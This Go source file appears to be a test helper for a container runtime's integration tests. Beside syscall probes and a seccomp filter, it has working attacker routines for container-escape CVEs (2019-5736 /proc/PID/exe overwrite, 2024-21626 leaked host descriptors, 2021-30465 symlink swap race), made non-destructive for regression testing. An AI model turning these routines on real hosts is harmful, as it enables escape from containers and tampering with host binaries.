// Command sysprobe makes system calls and says how each went; the
// integration tests copy it (built static, CGO_ENABLED=0) into a container's
// rootfs.
//
//	sysprobe CALL...
//
// prints "CALL: ok" or "CALL: ERRNO-NAME" for each CALL: mount (a tmpfs on
// /tmp, unmounted again), unshare (a new UTS namespace), keyctl (join a new
// session keyring).
//
//	sysprobe nr NR...
//
// makes system call number NR with every argument zero and prints
// "NR: ok" or "NR: ERRNO-NAME" for each.
//
//	sysprobe without-landlock CMD ARGS...
//
// executes CMD with the Landlock system calls failing with ENOSYS, as on a
// kernel without Landlock (a seccomp filter; it sets no_new_privs).
//
//	sysprobe ptrace PID
//
// prints "ptrace: ok" or "ptrace: ERRNO-NAME" for PTRACE_ATTACH to PID
// (detaching again when it worked).
//
//	sysprobe exe-attack SECONDS LOG
//
// is the CVE-2019-5736 attacker: for SECONDS it watches every other process
// it can see and tries to write to its /proc/PID/exe, directly and through
// an O_PATH handle reopened later (after the process exited or exec'd,
// when ETXTBSY no longer protects the file). Processes running a file of
// the attacker's own filesystem (same inode at the path the link names)
// are left alone: the container may write its own files. A write puts back
// the bytes it read, so a successful attack changes no content. LOG gets
// one line per new observation, unbuffered, since the attacker may be
// killed any time: "saw PID TARGET", "own PID TARGET", "open-rw PID:
// ERRNO", "write PID: ERRNO", and "WROTE PID TARGET" for a write that
// worked; "done" at the end.
//
//	sysprobe fd-attack SECONDS LOG NAME
//
// is the CVE-2024-21626 attacker: for SECONDS it opens every descriptor of
// every other process it can see through /proc/PID/fd/N and logs
// "LEAK PID N TARGET" for a directory holding an entry called NAME (a
// marker the test put in a host directory), "seen PID N TARGET" for the
// other directories; "done" at the end.
//
//	sysprobe swap A B SECONDS
//
// exchanges the paths A and B (renameat2 RENAME_EXCHANGE) as fast as it can
// for SECONDS, then prints the number of exchanges: a symlink raced
// against a directory (CVE-2021-30465).
//
//	sysprobe subreaper CMD ARGS...
//
// becomes a child subreaper (as conmon and containerd's shim are), runs
// CMD, and then reaps whatever CMD left behind: it prints "cmd: exit N",
// then "reaped PID: exit N" or "reaped PID: signal N" per orphan.
package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) > 2 && os.Args[1] == "without-landlock" {
		if err := withoutLandlock(os.Args[2:]); err != nil {
			fmt.Fprintln(os.Stderr, "sysprobe:", err)
			os.Exit(127)
		}
	}
	if len(os.Args) > 1 {
		var err error
		handled := true
		switch a := os.Args[1:]; {
		case a[0] == "ptrace" && len(a) == 2:
			err = ptrace(a[1])
		case a[0] == "exe-attack" && len(a) == 3:
			err = exeAttack(a[1], a[2])
		case a[0] == "fd-attack" && len(a) == 4:
			err = fdAttack(a[1], a[2], a[3])
		case a[0] == "swap" && len(a) == 4:
			err = swap(a[1], a[2], a[3])
		case a[0] == "subreaper" && len(a) > 1:
			err = subreaper(a[1:])
		case a[0] == "nr" && len(a) > 1:
			err = rawCalls(a[1:])
		default:
			handled = false
		}
		if handled {
			if err != nil {
				fmt.Fprintln(os.Stderr, "sysprobe:", err)
				os.Exit(1)
			}
			return
		}
	}
	for _, call := range os.Args[1:] {
		var err error
		switch call {
		case "mount":
			if err = unix.Mount("sysprobe", "/tmp", "tmpfs", 0, ""); err == nil {
				err = unix.Unmount("/tmp", 0)
			}
		case "unshare":
			err = unix.Unshare(unix.CLONE_NEWUTS)
		case "keyctl":
			// A new anonymous session keyring (NULL name).
			if _, _, e := unix.Syscall(unix.SYS_KEYCTL, unix.KEYCTL_JOIN_SESSION_KEYRING, 0, 0); e != 0 {
				err = e
			}
		default:
			fmt.Fprintf(os.Stderr, "sysprobe: unknown call %q\n", call)
			os.Exit(2)
		}
		var errno syscall.Errno
		if errors.As(err, &errno) {
			fmt.Printf("%s: %s\n", call, unix.ErrnoName(errno))
		} else if err != nil {
			fmt.Printf("%s: %v\n", call, err)
		} else {
			fmt.Printf("%s: ok\n", call)
		}
	}
}

func rawCalls(nrs []string) error {
	for _, s := range nrs {
		nr, err := strconv.ParseUint(s, 0, 32)
		if err != nil {
			return fmt.Errorf("system call number %q: %w", s, err)
		}
		if _, _, e := unix.Syscall6(uintptr(nr), 0, 0, 0, 0, 0, 0); e != 0 {
			fmt.Printf("%s: %s\n", s, unix.ErrnoName(e))
		} else {
			fmt.Printf("%s: ok\n", s)
		}
	}
	return nil
}

func withoutLandlock(argv []string) error {
	path, err := exec.LookPath(argv[0])
	if err != nil {
		return err
	}
	deny := unix.SECCOMP_RET_ERRNO | uint32(unix.ENOSYS)
	prog := []unix.SockFilter{
		{Code: unix.BPF_LD | unix.BPF_W | unix.BPF_ABS, K: 0}, // seccomp_data.nr
		{Code: unix.BPF_JMP | unix.BPF_JEQ | unix.BPF_K, K: unix.SYS_LANDLOCK_CREATE_RULESET, Jt: 3},
		{Code: unix.BPF_JMP | unix.BPF_JEQ | unix.BPF_K, K: unix.SYS_LANDLOCK_ADD_RULE, Jt: 2},
		{Code: unix.BPF_JMP | unix.BPF_JEQ | unix.BPF_K, K: unix.SYS_LANDLOCK_RESTRICT_SELF, Jt: 1},
		{Code: unix.BPF_RET | unix.BPF_K, K: unix.SECCOMP_RET_ALLOW},
		{Code: unix.BPF_RET | unix.BPF_K, K: deny},
	}
	fprog := unix.SockFprog{Len: uint16(len(prog)), Filter: &prog[0]}
	if err := unix.Prctl(unix.PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0); err != nil {
		return fmt.Errorf("no_new_privs: %w", err)
	}
	// TSYNC: every thread of this Go process, whichever executes CMD.
	if _, _, e := unix.Syscall(unix.SYS_SECCOMP, unix.SECCOMP_SET_MODE_FILTER, unix.SECCOMP_FILTER_FLAG_TSYNC, uintptr(unsafe.Pointer(&fprog))); e != 0 {
		return fmt.Errorf("seccomp: %w", e)
	}
	return unix.Exec(path, argv, os.Environ())
}

func errnoName(err error) string {
	var errno syscall.Errno
	if errors.As(err, &errno) {
		return unix.ErrnoName(errno)
	}
	return err.Error()
}

func ptrace(pidArg string) error {
	pid, err := strconv.Atoi(pidArg)
	if err != nil {
		return fmt.Errorf("pid %q: %w", pidArg, err)
	}
	if err := unix.PtraceAttach(pid); err != nil {
		fmt.Printf("ptrace: %s\n", errnoName(err))
		return nil
	}
	var ws unix.WaitStatus
	_, _ = unix.Wait4(pid, &ws, unix.WALL, nil)
	_ = unix.PtraceDetach(pid)
	fmt.Println("ptrace: ok")
	return nil
}

func exeAttack(secondsArg, logPath string) error {
	seconds, err := strconv.ParseFloat(secondsArg, 64)
	if err != nil {
		return fmt.Errorf("seconds %q: %w", secondsArg, err)
	}
	logf, err := os.OpenFile(logPath, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		return err
	}
	defer logf.Close()
	logged := map[string]bool{}
	logOnce := func(format string, args ...any) {
		line := fmt.Sprintf(format, args...)
		if !logged[line] {
			logged[line] = true
			fmt.Fprintln(logf, line)
		}
	}
	// tryWrite opens path read-write and puts back its first bytes.
	tryWrite := func(pid int, path string) {
		fd, err := unix.Open(path, unix.O_RDWR|unix.O_CLOEXEC, 0)
		if err != nil {
			logOnce("open-rw %d: %s", pid, errnoName(err))
			return
		}
		defer unix.Close(fd)
		var b [4]byte
		n, err := unix.Pread(fd, b[:], 0)
		if err == nil && n > 0 {
			_, err = unix.Pwrite(fd, b[:n], 0)
		}
		if err != nil {
			logOnce("write %d: %s", pid, errnoName(err))
			return
		}
		target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		fmt.Fprintf(logf, "WROTE %d %s\n", pid, target)
	}
	self := os.Getpid()
	held := map[int]int{} // pid -> O_PATH fd of its exe
	own := map[int]bool{} // pid -> runs a file of our own filesystem
	deadline := time.Now().Add(time.Duration(seconds * float64(time.Second)))
	for time.Now().Before(deadline) {
		entries, _ := os.ReadDir("/proc")
		for _, e := range entries {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == self || own[pid] {
				continue
			}
			exe := "/proc/" + e.Name() + "/exe"
			target, err := os.Readlink(exe)
			if err != nil {
				logOnce("saw %d readlink: %s", pid, errnoName(err))
			}
			if _, ok := held[pid]; !ok && len(held) < 512 {
				if fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
					var a, b unix.Stat_t
					if target != "" && unix.Fstat(fd, &a) == nil && unix.Stat(target, &b) == nil && a.Dev == b.Dev && a.Ino == b.Ino {
						own[pid] = true
						unix.Close(fd)
						logOnce("own %d %s", pid, target)
						continue
					}
					held[pid] = fd
				} else {
					logOnce("open-path %d: %s", pid, errnoName(err))
				}
			}
			if target != "" {
				logOnce("saw %d %s", pid, target)
			}
			tryWrite(pid, exe)
		}
		for pid, fd := range held {
			tryWrite(pid, "/proc/self/fd/"+strconv.Itoa(fd))
		}
		time.Sleep(time.Millisecond)
	}
	fmt.Fprintln(logf, "done")
	return nil
}

func swap(a, b, secondsArg string) error {
	seconds, err := strconv.ParseFloat(secondsArg, 64)
	if err != nil {
		return fmt.Errorf("seconds %q: %w", secondsArg, err)
	}
	deadline := time.Now().Add(time.Duration(seconds * float64(time.Second)))
	n := 0
	for time.Now().Before(deadline) {
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
			return fmt.Errorf("exchange %s and %s: %w", a, b, err)
		}
		n++
	}
	fmt.Printf("swapped %d times\n", n)
	return nil
}

func subreaper(argv []string) error {
	if err := unix.Prctl(unix.PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0); err != nil {
		return fmt.Errorf("PR_SET_CHILD_SUBREAPER: %w", err)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	err := cmd.Run()
	var ee *exec.ExitError
	switch {
	case err == nil:
		fmt.Println("cmd: exit 0")
	case errors.As(err, &ee):
		fmt.Printf("cmd: exit %d\n", ee.ExitCode())
	default:
		return err
	}
	for {
		var ws unix.WaitStatus
		pid, err := unix.Wait4(-1, &ws, 0, nil)
		if errors.Is(err, unix.EINTR) {
			continue
		}
		if errors.Is(err, unix.ECHILD) {
			return nil
		}
		if err != nil {
			return err
		}
		if ws.Signaled() {
			fmt.Printf("reaped %d: signal %d\n", pid, ws.Signal())
		} else {
			fmt.Printf("reaped %d: exit %d\n", pid, ws.ExitStatus())
		}
	}
}

func fdAttack(secondsArg, logPath, marker string) error {
	seconds, err := strconv.ParseFloat(secondsArg, 64)
	if err != nil {
		return fmt.Errorf("seconds %q: %w", secondsArg, err)
	}
	logf, err := os.OpenFile(logPath, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		return err
	}
	defer logf.Close()
	logged := map[string]bool{}
	self := os.Getpid()
	deadline := time.Now().Add(time.Duration(seconds * float64(time.Second)))
	for time.Now().Before(deadline) {
		procs, _ := os.ReadDir("/proc")
		for _, p := range procs {
			pid, err := strconv.Atoi(p.Name())
			if err != nil || pid == self {
				continue
			}
			dir := "/proc/" + p.Name() + "/fd/"
			fds, _ := os.ReadDir(dir)
			for _, f := range fds {
				fd, err := unix.Open(dir+f.Name(), unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
				if err != nil {
					continue
				}
				target, _ := os.Readlink(dir + f.Name())
				kind := "seen"
				var st unix.Stat_t
				if unix.Fstatat(fd, marker, &st, unix.AT_SYMLINK_NOFOLLOW) == nil {
					kind = "LEAK"
				}
				unix.Close(fd)
				line := fmt.Sprintf("%s %d %s %s", kind, pid, f.Name(), target)
				if !logged[line] {
					logged[line] = true
					fmt.Fprintln(logf, line)
				}
			}
		}
	}
	fmt.Fprintln(logf, "done")
	return nil
}
